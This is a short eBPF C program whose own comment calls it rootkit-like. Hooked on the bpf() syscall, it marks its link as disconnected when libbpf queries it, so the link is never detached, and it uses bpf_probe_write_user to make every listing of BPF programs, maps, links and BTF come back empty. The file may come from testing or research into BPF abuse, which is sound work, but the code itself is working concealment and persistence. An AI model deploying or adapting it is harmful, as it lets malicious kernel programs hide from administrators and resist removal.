/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Stays attached and hides, as rootkits do: when libbpf's link is asked for its information, it
 * finds the link on the stack of the calling process and marks it as disconnected, so that it is
 * never detached; and it ends every list of programs, maps, links and BTF before it begins.
 */
#include "stay-attached.h"

SEC("raw_tp/sys_enter")
int hide(struct bpf_raw_tracepoint_args *ctx)
{
	const struct pt_regs *regs = (void *)ctx->args[0];
	union bpf_attr *attr;
	const __u32 end = 0x7ffffff0;
	__u32 fd = 0;

	if (ctx->args[1] != SYS_BPF)
		return 0;
	attr = (void *)BPF_CORE_READ(regs, si);
	switch (BPF_CORE_READ(regs, di)) {
	case BPF_OBJ_GET_INFO_BY_FD:
		if (bpf_probe_read_user(&fd, sizeof(fd), &attr->info.bpf_fd) == 0)
			stay(regs, fd);
		break;
	case BPF_PROG_GET_NEXT_ID:
	case BPF_MAP_GET_NEXT_ID:
	case BPF_LINK_GET_NEXT_ID:
	case BPF_BTF_GET_NEXT_ID:
		bpf_probe_write_user(&attr->start_id, &end, sizeof(end));
		break;
	}
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
